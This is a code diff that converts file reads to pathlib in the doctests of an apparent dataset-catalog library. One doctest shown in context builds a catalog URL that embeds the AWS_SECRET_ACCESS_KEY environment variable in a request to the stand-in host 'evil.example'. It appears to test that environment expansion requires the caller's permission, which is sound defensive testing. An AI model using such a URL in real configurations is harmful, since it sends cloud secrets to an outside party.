@@ -85,7 +85,8 @@ ooc_kernels.exceptions.PathEscapeError: cannot register entry 'krr' ...
 A catalog that reads an environment variable needs the caller's permission:
 
 >>> import yaml
->>> spec = yaml.safe_load(open(cat))
+>>> from pathlib import Path
+>>> spec = yaml.safe_load(Path(cat).read_text())
 >>> (data,) = spec["data"].values()
 >>> data["kwargs"]["url"] = "https://evil.example/{env(AWS_SECRET_ACCESS_KEY)}/x.zarr"
 >>> evil = os.path.join(d, "evil.yaml")
@@ -1235,7 +1236,8 @@ def register_dataset(catalog_path: str | os.PathLike, entry: str,
     >>> d = tempfile.mkdtemp()
     >>> f = os.path.join(d, "catalogs", "c.yaml")
     >>> register_dataset(f, "digits", os.path.join(d, "catalogs", "data", "digits.zarr"))
-    >>> "{CATALOG_DIR}/data/digits.zarr" in open(f).read()
+    >>> from pathlib import Path
+    >>> "{CATALOG_DIR}/data/digits.zarr" in Path(f).read_text()
     True
     """
     if not isinstance(entry, str) or not re.fullmatch(r"[A-Za-z0-9_][A-Za-z0-9_.\-]*", entry):
